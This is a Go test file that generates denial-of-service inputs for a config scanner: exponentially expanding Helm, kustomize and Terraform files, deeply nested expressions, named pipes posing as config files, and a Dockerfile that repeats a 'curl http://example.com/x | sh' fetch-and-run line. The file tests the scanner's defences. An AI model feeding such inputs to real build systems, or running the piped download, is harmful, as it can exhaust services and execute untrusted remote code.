package corpus

import (
	"bufio"
	"fmt"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"
)

func helmCases() []Case {
	chart := func(tb testing.TB, dir, tmpl string) {
		write(tb, dir, "src/chart/Chart.yaml", []byte("apiVersion: v2\nname: hostile\nversion: 0.1.0\n"))
		write(tb, dir, "src/chart/templates/t.yaml", []byte(tmpl))
	}
	return []Case{
		{Name: "helm-range-until", Owner: "render", Write: func(tb testing.TB, dir string) Run {
			chart(tb, dir, "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n{{- range $i := until 100000000 }}{{- range $j := until 100000000 }}\n  k{{ $i }}-{{ $j }}: v\n{{- end }}{{- end }}\n")
			return Run{Args: []string{"scan", "src"}, Skipped: "chart"}
		}},
		{Name: "helm-define-chain", Owner: "render", Write: func(tb testing.TB, dir string) Run {
			var b strings.Builder
			for i := range 20 {
				fmt.Fprintf(&b, "{{- define \"d%d\" }}{{ include \"d%d\" . }}{{ include \"d%d\" . }}{{- end }}\n", i, i+1, i+1)
			}
			b.WriteString("{{- define \"d20\" }}xxxxxxxxxxxxxxxx{{- end }}\n")
			write(tb, dir, "src/chart/templates/_defs.tpl", []byte(b.String()))
			chart(tb, dir, "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  k: {{ include \"d0\" . | quote }}\n")
			return Run{Args: []string{"scan", "src"}, Skipped: "chart"}
		}},
		{Name: "helm-repeat", Owner: "render", Write: func(tb testing.TB, dir string) Run {
			chart(tb, dir, "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  k: {{ repeat 2000000000 \"xxxxxxxx\" | quote }}\n")
			return Run{Args: []string{"scan", "src"}, Skipped: "chart"}
		}},
	}
}

func kustomizeCases() []Case {
	return []Case{
		{Name: "kustomize-doubling", Owner: "render", Write: func(tb testing.TB, dir string) Run {
			const depth = 12
			var keys strings.Builder
			for i := range 2000 {
				fmt.Fprintf(&keys, "  k%d: %s\n", i, strings.Repeat("v", 32))
			}
			write(tb, dir, "src/ov/kustomization.yaml", []byte("resources:\n- ../l1a\n- ../l1b\n"))
			for i := 1; i <= depth; i++ {
				for _, side := range []string{"a", "b"} {
					d := fmt.Sprintf("src/l%d%s/", i, side)
					if i == depth {
						write(tb, dir, d+"kustomization.yaml", []byte("namePrefix: "+side+"-\nresources:\n- cm.yaml\n"))
						write(tb, dir, d+"cm.yaml", []byte("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\ndata:\n"+keys.String()))
						continue
					}
					write(tb, dir, d+"kustomization.yaml", fmt.Appendf(nil, "namePrefix: %s-\nresources:\n- ../l%da\n- ../l%db\n", side, i+1, i+1))
				}
			}
			// Every level is a top-level directory, so a scan unit of its
			// own whose kustomization is a root there: up to 15 units each
			// spend their budget, two at a time.
			return Run{Args: []string{"scan", "src"}, Skipped: "ov", MaxTime: 40 * time.Second}
		}},
		{Name: "fifo-kustomization", Owner: "engine", Write: func(tb testing.TB, dir string) Run {
			write(tb, dir, "src/app/deploy.yaml", []byte("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n"))
			must(tb, syscall.Mkfifo(dir+"/src/app/kustomization.yaml", 0o644))
			return Run{Args: []string{"scan", "src"}, Skipped: "app/kustomization.yaml"}
		}},
		{Name: "fifo-requirements", Owner: "engine", Write: func(tb testing.TB, dir string) Run {
			write(tb, dir, "src/setup.cfg", []byte("[metadata]\nname = x\n"))
			must(tb, syscall.Mkfifo(dir+"/src/requirements.txt", 0o644))
			return Run{Args: []string{"scan", "src"}, Skipped: "requirements.txt"}
		}},
	}
}

func terraformCases() []Case {
	return []Case{
		{Name: "terraform-for-cube", Owner: "iac", Write: func(tb testing.TB, dir string) Run {
			write(tb, dir, "src/tf/main.tf", []byte("locals {\n  x = [for a in range(1024) : [for b in range(1024) : [for c in range(1024) : \"${a}-${b}-${c}\"]]]\n}\nresource \"aws_s3_bucket\" \"b\" {\n  bucket = length(local.x)\n}\n"))
			return Run{Args: []string{"scan", "src"}, Skipped: "tf"}
		}},
		{Name: "terraform-doubling-locals", Owner: "iac", Write: func(tb testing.TB, dir string) Run {
			var b strings.Builder
			b.WriteString("locals {\n  l0 = [\"xxxxxxxxxxxxxxxx\", \"xxxxxxxxxxxxxxxx\"]\n")
			for i := 1; i <= 40; i++ {
				fmt.Fprintf(&b, "  l%d = concat(local.l%d, local.l%d)\n", i, i-1, i-1)
			}
			b.WriteString("}\nresource \"aws_s3_bucket\" \"b\" {\n  bucket = join(\",\", local.l40)\n}\n")
			write(tb, dir, "src/tf/main.tf", []byte(b.String()))
			return Run{Args: []string{"scan", "src"}, Skipped: "tf"}
		}},
		{Name: "terraform-deep-nesting", Owner: "iac", Write: func(tb testing.TB, dir string) Run {
			const n = 500_000
			write(tb, dir, "src/tf/main.tf", []byte("locals {\n  x = "+strings.Repeat("[", n)+strings.Repeat("]", n)+"\n}\n"))
			return Run{Args: []string{"scan", "src"}, Skipped: "tf"}
		}},
	}
}

func dockerfileCases() []Case {
	return []Case{
		{Name: "dockerfile-continuations", Owner: "dockerfile", Write: func(tb testing.TB, dir string) Run {
			writeWith(tb, dir, "src/Dockerfile", func(f *os.File) error {
				w := bufio.NewWriter(f)
				w.WriteString("FROM alpine:3.20\nRUN echo \\\n")
				for range (8 << 20) / 8 {
					w.WriteString("  aa \\\n")
				}
				w.WriteString("  done\n")
				return w.Flush()
			})
			return Run{Args: []string{"scan", "src"}}
		}},
		{Name: "dockerfile-nested-subst", Owner: "dockerfile", Write: func(tb testing.TB, dir string) Run {
			const n = 100_000
			write(tb, dir, "src/Dockerfile", []byte("FROM alpine:3.20\nRUN echo "+strings.Repeat("$(", n)+"x"+strings.Repeat(")", n)+"\n"))
			return Run{Args: []string{"scan", "src"}, Skipped: "Dockerfile"}
		}},
		{Name: "dockerfile-100k-lines", Owner: "dockerfile", Write: func(tb testing.TB, dir string) Run {
			var b strings.Builder
			b.WriteString("FROM alpine:3.20\n")
			for i := range 100_000 {
				fmt.Fprintf(&b, "RUN echo %d && curl http://example.com/x | sh\n", i)
			}
			write(tb, dir, "src/Dockerfile", []byte(b.String()))
			return Run{Args: []string{"scan", "src"}}
		}},
	}
}
